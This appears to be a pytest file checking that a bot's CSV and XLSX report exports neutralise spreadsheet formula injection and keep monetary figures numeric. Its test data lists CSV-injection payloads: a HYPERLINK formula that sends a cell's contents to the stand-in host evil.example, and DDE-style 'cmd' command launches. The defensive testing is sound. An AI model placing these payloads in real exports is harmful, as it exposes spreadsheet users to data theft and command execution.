"""Exports never carry a live formula (OWASP "CSV Injection"); figures stay figures."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session, col

from bot.reports.dues import dues_sheets
from bot.reports.sheets import (
    Column,
    Kind,
    Sheet,
    is_formula_like,
    write_csv,
    write_table,
    write_xlsx,
)
from core.locales import DEFAULT_LOCALE
from core.policy_loader import load_policies
from storage.accounts import account_policies
from storage.db import session_scope
from storage.models import Employee
from tests.support.dues_company import PERIOD, seed

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&D3,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_are_recognised(value: str) -> None:
    assert is_formula_like(value)


@pytest.mark.parametrize("value", ["王伟", "Zhang Wei", "E0001", "", None, Decimal("-5.00"), 3])
def test_ordinary_cells_are_not_formula_like(value: str | Decimal | int | None) -> None:
    assert not is_formula_like(value)


def _sheet() -> Sheet:
    sheet = Sheet("people", [Column("name"), Column("amount", Kind.MONEY, currency="CNY")])
    for name in HOSTILE:
        sheet.add([name, Decimal("-12.50")])
    sheet.add(["王伟", Decimal("1234.50")])
    return sheet


def test_csv_writes_formula_like_text_with_a_leading_quote_and_figures_plain() -> None:
    rows = list(csv.reader(io.StringIO(write_csv([_sheet()]), newline="")))
    assert rows[0] == ["name", "amount"]
    for value, row in zip(HOSTILE, rows[1:], strict=False):
        assert row == ["'" + value.replace("\r", "\n"), "-12.50"]
    assert rows[-1] == ["王伟", "1234.50"]


def test_xlsx_stores_formula_like_text_as_quoted_strings_and_figures_as_numbers(
    tmp_path: Path,
) -> None:
    path = tmp_path / "people.xlsx"
    write_xlsx([_sheet()], path)
    ws = load_workbook(path).worksheets[0]
    cells = list(ws.iter_rows(min_row=2))
    for value, (name, amount) in zip(HOSTILE, cells, strict=False):
        assert (name.value, name.data_type, name.quotePrefix) == (value, "s", True)
        assert (amount.value, amount.data_type) == (-12.5, "n")
    assert (cells[-1][0].value, cells[-1][0].quotePrefix) == ("王伟", False)


def test_dues_report_keeps_a_hostile_employee_name_as_text(engine: Engine, tmp_path: Path) -> None:
    seed(engine)
    hostile = HOSTILE[0]
    with session_scope(engine) as session:
        rename = update(Employee).where(col(Employee.employee_id) == "E0001").values(name=hostile)
        session.execute(rename)
    xlsx = tmp_path / "dues.xlsx"
    with Session(engine) as session:
        accounts = account_policies(session, load_policies())
        sheets = dues_sheets(session, PERIOD, accounts, DEFAULT_LOCALE)
        write_xlsx(sheets, xlsx)
        text = write_csv(sheets[:1])
    found = [
        cell
        for row in load_workbook(xlsx).worksheets[0].iter_rows()
        for cell in row
        if cell.value == hostile
    ]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert "'" + hostile.replace('"', '""') in text
    assert "," + hostile.replace('"', '""') not in text


def test_cents_are_written_as_the_amounts_they_stand_for(tmp_path: Path) -> None:
    columns = [Column("cur", holds_currency=True), Column("a", Kind.MONEY), Column("c", Kind.CENTS)]
    sheet = Sheet("amounts", columns)
    for cents in (-1250, 5, 123456, None):
        sheet.add(["CNY", None if cents is None else Decimal(cents).scaleb(-2), cents])
    rows = list(csv.reader(io.StringIO(write_csv([sheet]), newline="")))
    assert [row[1:] for row in rows[1:]] == [[a, a] for a in ("-12.50", "0.05", "1234.56", "")]
    path = tmp_path / "amounts.xlsx"
    write_xlsx([sheet], path)
    for money, cents in load_workbook(path).worksheets[0].iter_rows(min_row=2, min_col=2):
        assert (cents.value, cents.number_format) == (money.value, money.number_format)
    table = [line.split() for line in write_table([sheet]).splitlines()[3:]]
    assert [line[1:] for line in table] == [[a, a] for a in ("-12.50", "0.05", "1234.56", "-")]
